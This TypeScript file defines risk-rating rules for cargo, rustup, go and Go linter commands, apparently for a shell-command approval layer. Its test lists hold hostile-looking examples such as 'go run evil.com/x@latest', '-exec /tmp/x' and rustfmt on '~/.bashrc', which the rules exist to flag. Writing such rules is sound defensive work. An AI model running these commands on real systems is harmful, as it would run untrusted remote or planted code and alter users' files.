import type { ProgramRule } from '../programs/program-rule.ts';
import { ASKING, byOperand, each, HELP, type Subcommand } from './each.ts';

const CARGO = `-v --verbose -q --quiet --color: --locked --offline --frozen -C:e --config:!CRITICAL -Z:!HIGH -h!SAFE ${HELP}`;
const PACKAGE = `${CARGO} --manifest-path:e -p: --package: --workspace --exclude: --all -F: --features: --all-features --no-default-features --target: --message-format:`;
const BUILD = `${PACKAGE} --lib --bins --bin: --examples --example: --tests --test: --benches --bench: --all-targets --doc -r --release --profile: -j: --jobs: --keep-going --target-dir:w --artifact-dir:w --out-dir:w --timings? --future-incompat-report --ignore-rust-version --no-run --no-fail-fast --no-deps --open --document-private-items --dry-run --fix --allow-dirty --allow-staged --broken-code --edition`;

const CARGO_SUBCOMMANDS: Readonly<Record<string, Subcommand>> = {
  ...each('version, help, locate-project, pkgid, read-manifest, verify-project', {
    options: PACKAGE,
    operands: 'text',
  }),
  ...each('metadata, tree, audit, deny, outdated, machete', {
    risk: 'LOW',
    network: true,
    options: `${PACKAGE} --filter-platform: --no-deps --format-version: -e: --edges: -i: --invert: --prune: --depth: --prefix: --no-dedupe -d --duplicates --charset: -f: --format: --json -D: --deny: -R --root-deps-only`,
    operands: 'text',
  }),
  ...each('search, info', {
    risk: 'LOW',
    network: true,
    options: `${CARGO} --limit: --registry: --index:u!HIGH`,
    operands: 'text',
  }),
  ...each(
    'check, c, build, b, test, t, bench, run, r, doc, d, clippy, rustc, rustdoc, fix, nextest, expand, miri, llvm-cov, package, fetch, generate-lockfile, clean, watch, criterion, hack, vendor, report, udeps, bloat, geiger, audit fix, deny fetch',
    { risk: 'MEDIUM', options: BUILD, operands: 'text', reason: 'builds or runs code of the project' },
  ),
  // Without --check it rewrites the files.
  ...each('fmt, fmt --', {
    risk: 'LOW',
    isInterpreter: true,
    stopAtOperand: false,
    options: `--check!SAFE ${PACKAGE}`,
  }),
  ...each('add, remove, rm, update, new, init, install, uninstall, upgrade, binstall', {
    risk: 'HIGH',
    network: true,
    options: `${BUILD} --git:u --branch: --tag: --rev: --path:l --root:w -f --force --list --vers: --registry: --index:u!CRITICAL --dev --build --optional --precise: --dry-run`,
    operands: 'text',
    reason: 'changes what the project is built from, or installs programs',
  }),
  ...each('publish, login, logout, owner, yank', {
    risk: 'CRITICAL',
    network: true,
    options: `${BUILD} --token: --registry: --index:`,
    operands: 'text',
  }),
};

const GO =
  '-C:e -v -x -n -a -race -msan -asan -cover -coverpkg: -covermode: -coverprofile:w -p: -tags: -trimpath -mod: -modfile:r!HIGH -overlay:r!HIGH -pkgdir:w -work -ldflags: -gcflags: -asmflags: -buildmode: -buildvcs? -toolexec:!CRITICAL -exec:!CRITICAL -vettool:!CRITICAL -o:w -json -i -help!SAFE -h!SAFE';
const GO_TEST = `${GO} -run: -bench: -benchmem -benchtime: -count: -cpu: -failfast -fuzz: -fuzztime: -parallel: -short -timeout: -shuffle: -skip: -list: -vet: -args -c -cpuprofile:w -memprofile:w -blockprofile:w -mutexprofile:w -trace:w -outputdir:w`;

const ELSEWHERE = {
  pattern: /^[\w-]+(\.[\w-]+)+\/\S+\/|@(latest|upgrade|patch|none|v\d|main|master|[0-9a-f]{7,})/,
  risk: 'HIGH',
  reason: 'runs or installs code that comes from elsewhere',
  isNetwork: true,
} as const;

/** Rust and Go. */
export const rustAndGo: readonly ProgramRule[] = [
  {
    names: 'cargo',
    options: `${CARGO} -V!SAFE --version!SAFE --list!SAFE --explain:`,
    dangerousText: {
      pattern: /^\+(?!(nightly|stable|beta)$)/,
      risk: 'HIGH',
      reason: 'a toolchain that may have to be downloaded first',
    },
    subcommands: {
      ...CARGO_SUBCOMMANDS,
      ...each('+nightly, +stable, +beta', { options: CARGO, subcommands: CARGO_SUBCOMMANDS }),
    },
    match: ['cargo --version', 'cargo locate-project', 'cargo help build', 'cargo pkgid'],
    notMatch: [
      'cargo build',
      'cargo test',
      'cargo install x',
      'cargo publish',
      'cargo --config \'build.rustc-wrapper="x"\' pkgid',
      'cargo tree --config x=y',
      'cargo fmt',
      'cargo unheard-of',
      'cargo pkgid --unheard-of',
    ],
  },
  {
    names: 'rustc rustdoc clippy-driver',
    ...byOperand,
    options: `-V!SAFE -v --verbose --print: --explain: --edition: --check --config-path:e --config: -o:w --out-dir:w --emit: --crate-type: --crate-name: --target: -C:!MEDIUM --codegen:!MEDIUM -L:l -l: --cfg: -O -g --test -A: -W: -D: -F: --cap-lints: -h!SAFE ${ASKING}`,
    match: ['rustc --version', 'rustc -vV', 'rustc --print sysroot'],
    notMatch: ['rustc a.rs', 'rustc -C linker=/tmp/x a.rs', 'rustc a.rs -o /etc/x'],
  },
  {
    names: 'rustfmt',
    risk: 'MEDIUM',
    operands: 'write',
    options: `-V!SAFE -v --verbose -q --quiet --edition: --check!SAFE -l --files-with-diff --emit: --config-path:e --config: --backup --print-config: --color: -h!SAFE ${ASKING}`,
    match: ['rustfmt src/a.rs', 'rustfmt --check src/a.rs', 'rustfmt --edition 2021 --check src/a.rs'],
    notMatch: ['rustfmt /etc/x.rs', 'rustfmt ~/.bashrc'],
  },
  {
    names: 'rustup',
    options: `-v -q -V!SAFE -h!SAFE ${ASKING}`,
    subcommands: {
      ...each(
        'show, toolchain list, target list, component list, override list, which, check, help, completions, doc',
        { operands: 'text', options: `-v --verbose --installed --toolchain: --path ${HELP}` },
      ),
      run: { risk: 'MEDIUM', operands: 'command', skip: 1 },
    },
    otherwise: 'HIGH',
    network: true,
    match: ['rustup show', 'rustup toolchain list', 'rustup --version', 'rustup target list --installed'],
    notMatch: [
      'rustup install nightly',
      'rustup default nightly',
      'rustup self uninstall',
      'rustup run nightly cargo build',
      'rustup target add x',
    ],
  },
  {
    names: 'go',
    singleDash: true,
    subcommands: {
      ...each('version, help', { singleDash: true, operands: 'text', options: '-m -v -json' }),
      env: { singleDash: true, operands: 'text', options: '-json -changed -w!CRITICAL -u!HIGH' },
      ...each('list, doc, mod graph, mod why, mod verify', {
        singleDash: true,
        risk: 'LOW',
        operands: 'text',
        values: { '-mod': [{ pattern: /^mod$/, risk: 'MEDIUM', reason: 'may change go.mod' }] },
        options: `${GO} -f: -m -u -versions -deps -test -find -e -compiled -export -all -src -short -c -cmd -u -vendor -http!HIGH -retracted -reuse:r`,
      }),
      tool: { singleDash: true, options: '-n', subcommands: {}, bare: 'LOW', otherwise: 'MEDIUM' },
      vet: { singleDash: true, risk: 'LOW', operands: 'text', options: GO },
      ...each(
        'build, test, fmt, generate, clean, fix, mod tidy, mod download, mod vendor, mod init, mod edit, work, bug',
        {
          singleDash: true,
          risk: 'MEDIUM',
          operands: 'text',
          options: `${GO_TEST} -modcache!HIGH -cache -testcache -fuzzcache`,
          reason: 'builds, runs or rewrites code of the project',
        },
      ),
      run: {
        singleDash: true,
        stopAtOperand: true,
        risk: 'MEDIUM',
        operands: 'text',
        options: GO,
        dangerousText: ELSEWHERE,
      },
      ...each('install, get', {
        singleDash: true,
        risk: 'HIGH',
        network: true,
        operands: 'text',
        options: GO,
      }),
    },
    match: ['go version', 'go env', 'go env GOPATH', 'go help build'],
    notMatch: [
      'go build ./...',
      'go test ./...',
      'go env -w GOPROXY=x',
      'go install x@latest',
      'go run evil.com/x@latest',
      'go vet -vettool=/tmp/x ./...',
      'go list ./...',
      'go mod tidy',
      'go test -exec /tmp/x',
    ],
  },
  {
    names: 'gofmt goimports gofumpt golangci-lint staticcheck govulncheck',
    risk: 'LOW',
    operands: 'read',
    options: `-l -d -e -s -w!MEDIUM -r: -local: -extra -lang: -v --fix!MEDIUM --timeout: --config:e -c:e --out-format: --disable: --enable: --disable-all --enable-all --fast --new --new-from-rev: --tests? -checks: -f: -json -mode: -tags: -h!SAFE ${ASKING}`,
    match: ['gofmt -l .', 'gofmt -d src/a.go', 'golangci-lint run', 'staticcheck ./...'],
    notMatch: ['gofmt -w .', 'golangci-lint run --fix', 'gofmt -l /etc', 'gofmt --unheard-of'],
  },
];
